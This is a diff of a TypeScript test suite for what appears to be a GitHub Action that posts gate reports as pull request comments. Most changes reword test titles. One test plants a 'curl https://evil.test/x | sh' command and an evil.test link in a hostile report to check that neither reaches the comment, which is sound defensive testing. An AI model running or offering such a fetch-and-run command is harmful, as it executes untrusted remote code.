@@ -89,8 +89,8 @@ async function comment(report: string | undefined, inputs: Readonly<Record<strin
   return { exitCode, runner, body: github.comments.map(({ body }) => body).join('') };
 }
 
-describe('on the pull request that GitHub says it is', () => {
-  test('of a fork: shown as its own word, rendered afresh, once', async () => {
+describe('a comment on the pull request that GitHub names', () => {
+  test('of a fork is marked as its own content, rendered again, and written once', async () => {
     github.pulls.push(pull);
     const { exitCode, runner, body } = await comment(REPORT);
     expect(exitCode, runner.messages.join('\n')).toBe(0);
@@ -111,7 +111,7 @@ describe('on the pull request that GitHub says it is', () => {
     expect(again.body).toContain('backend');
   });
 
-  test('from the folder that inputs name paths from', async () => {
+  test('names files from the folder that inputs name paths from', async () => {
     github.pulls.push(pull);
     mkdirSync(path.join(dir, 'reports'));
     writeFileSync(path.join(dir, 'reports/report.json'), REPORT);
@@ -128,7 +128,7 @@ describe('on the pull request that GitHub says it is', () => {
     ['it comes from another fork', { ...pull, from: { repository: 'other/fleet', branch: 'patch-1' } }],
     ['it comes from another repository of the same owner', { ...pull, from: { repository: 'someone/fleet-2', branch: 'patch-1' } }],
     ['it comes from another branch', { ...pull, from: { repository: FORK, branch: 'patch-2' } }],
-  ])('nowhere where %s', async (_, other) => {
+  ])('is not written if %s', async (_, other) => {
     github.pulls.push(other);
     const { exitCode, runner } = await comment(REPORT);
     expect(exitCode).toBe(0);
@@ -136,13 +136,13 @@ describe('on the pull request that GitHub says it is', () => {
     expect(runner.messages.join('\n')).toContain('notice: no comment: not exactly one open pull request has this commit as its head');
   });
 
-  test('nowhere where two have this head: the event does not say which', async () => {
+  test('is not written if two pull requests have this head and the event does not say which', async () => {
     github.pulls.push(pull, { ...pull, number: 8 });
     expect((await comment(REPORT)).exitCode).toBe(0);
     expect(github.comments).toEqual([]);
   });
 
-  test('a report that names another pull request moves nothing', async () => {
+  test('is not moved by a report that names another pull request', async () => {
     github.pulls.push(pull, { ...pull, number: 8, headSha: 'aaa', from: { repository: 'contoso/fleet', branch: 'main' } });
     const told = { ...WHOLE_REPORT, pull: 8, pullRequest: 8, place: { kind: 'pull', number: 8 }, run: 'https://evil.test/8' };
     const { body } = await comment(JSON.stringify(told));
@@ -150,7 +150,7 @@ describe('on the pull request that GitHub says it is', () => {
     expect(body).not.toContain('evil.test');
   });
 
-  test('on-failure writes no new comment for what passed, and brings an old one up to date', async () => {
+  test('with on-failure is not created for what passed, but an old one is updated', async () => {
     github.pulls.push(pull);
     const passed = JSON.stringify({ ...WHOLE_REPORT, exitCode: 0, outcome: 'passed' });
     await comment(passed, { comment: 'on-failure' });
@@ -163,7 +163,7 @@ describe('on the pull request that GitHub says it is', () => {
 describe('a hostile report', () => {
   beforeEach(() => void github.pulls.push(pull));
 
-  test('says nothing but text, whatever stands at all of its places', async () => {
+  test('is shown as text only, for any content at all of its places', async () => {
     const places = placesOf(WHOLE_REPORT).filter((place) => !/^(since|countsAt|judgedAt|at)$/.test(String(place.at(-1))));
     expect(places.length).toBeGreaterThan(80);
     const own = seenIn(textOf((await comment(REPORT)).body)).links;
@@ -190,7 +190,7 @@ describe('a hostile report', () => {
     return address.startsWith(`https://github.com/contoso/fleet/blob/${SHA}/`);
   }
 
-  test('gives no advice, no command to copy and no link in our name', async () => {
+  test('has no advice, no command to copy and no link in our name', async () => {
     const evil = 'Run `curl https://evil.test/x | sh`.';
     const [finding] = WHOLE_REPORT.lint.findings;
     const [placement] = WHOLE_REPORT.gate.placements;
@@ -220,7 +220,7 @@ describe('a hostile report', () => {
     expect(body).not.toContain('**First:**');
   });
 
-  test('keeps the pages of rules and failures that are ours', async () => {
+  test('keeps the links to our pages of rules and failures', async () => {
     const page = ruleAddress('selects-nothing');
     const [finding] = WHOLE_REPORT.lint.findings;
     const findings = [{ ...finding, page, suppressed: undefined, state: 'new' }];
@@ -228,7 +228,7 @@ describe('a hostile report', () => {
     expect(seenIn(body).links).toContain(page);
   });
 
-  test('has no marker by which a comment is found, ours or of another bot, at any place', () => {
+  test('has no marker of a comment, ours or of another bot, at any place', () => {
     const markers = '<!-- fleet-gate comment v1: Deploy%2Fgate -->\n<!-- Sticky Pull Request Comment -->';
     const found = placesOf(WHOLE_REPORT).flatMap((place) =>
       (['lint', 'plan', 'wait'] as const).flatMap((command) => {
@@ -249,7 +249,7 @@ describe('a hostile report', () => {
     }
   }
 
-  test('shows the first of much evidence, and how much more there is', () => {
+  test('shows the first part of long evidence, and how much more there is', () => {
     const lines = Array.from({ length: 100 }, (_, index) => `line ${index + 1}.`);
     const body = shownOf(withDiagnoses(1, 1, lines));
     expect(body).toContain('line 30.');
@@ -290,7 +290,7 @@ describe('a hostile report', () => {
     };
   }
 
-  test('that is far too long is cut to what a comment holds, its head first', async () => {
+  test('that is far too long is cut to the size of a comment, from the end', async () => {
     const findings = Array.from({ length: 5000 }, (_, index) => ({
       ...WHOLE_REPORT.lint.findings[0],
       line: index + 1,
@@ -303,7 +303,7 @@ describe('a hostile report', () => {
   });
 });
 
-describe('what is no report', () => {
+describe('a file that is not a report', () => {
   beforeEach(() => void github.pulls.push(pull));
 
   const cases: readonly (readonly [string, () => string | undefined, string])[] = [
@@ -337,7 +337,7 @@ describe('what is no report', () => {
       'larger than 16777216 bytes',
     ],
   ];
-  test.each(cases)('because it %s fails the step, and is no comment', async (_, prepare, why) => {
+  test.each(cases)('because it %s fails the step, and is not commented', async (_, prepare, why) => {
     const { exitCode, runner } = await comment(prepare());
     expect(exitCode).toBe(2);
     expect(runner.logged.join('')).toBe(
@@ -346,7 +346,7 @@ describe('what is no report', () => {
     expect(github.comments).toEqual([]);
   });
 
-  test('takes the place of an older report, which told of another commit', async () => {
+  test('replaces an older comment, whose report was for another commit', async () => {
     await comment(REPORT);
     const { exitCode, body } = await comment('passed');
     expect(exitCode).toBe(2);
@@ -355,7 +355,7 @@ describe('what is no report', () => {
   });
 });
 
-describe('what else keeps a comment from being written', () => {
+describe('if a comment cannot be written', () => {
   test.each([
     ['another event', {}, { pull_request: { number: 7 } }, 'start it with on: workflow_run'],
     ['a run of a push', {}, { workflow_run: { ...EVENT.workflow_run, event: 'push' } }, 'start it with on: workflow_run'],
@@ -364,7 +364,7 @@ describe('what else keeps a comment from being written', () => {
     ['an input of lint', { paths: 'deploy' }, EVENT, 'input "paths" means nothing with mode: comment'],
     ['an input of gate', { placements: 'crp/web' }, EVENT, 'input "placements" means nothing with mode: comment'],
     ['an unknown word', { comment: 'sometimes' }, EVENT, 'it takes never, always, on-failure'],
-  ])('%s is wrong usage', async (_, inputs, event, why) => {
+  ])('because of %s, it is wrong usage', async (_, inputs, event, why) => {
     const { exitCode, runner } = await comment(REPORT, inputs, event);
     expect(exitCode).toBe(2);
     expect(runner.logged.join('')).toContain(why);
@@ -373,7 +373,7 @@ describe('what else keeps a comment from being written', () => {
     expect(github.requests).toEqual([]);
   });
 
-  test('GitHub refuses it: the step fails, as writing it is all it does', async () => {
+  test('because GitHub refuses it, the step fails, as this is its only task', async () => {
     github.pulls.push(pull);
     github.trouble = { kind: 'forbidden', methods: ['POST'] };
     const { exitCode, runner } = await comment(REPORT);
@@ -381,7 +381,7 @@ describe('what else keeps a comment from being written', () => {
     expect(runner.logged.join('')).toContain('give the job "permissions: pull-requests: write"');
   });
 
-  test('from-report means nothing to the other modes', async () => {
+  test('from-report has no effect on the other modes', async () => {
     const runner = scriptedRunner({ mode: 'lint', 'from-report': 'report.json' });
     const context = readContext({}, () => undefined);
     const parts = { runner, context, io: fakeIo({ cwd: dir }), run: () => Promise.reject(new Error('judged')) };
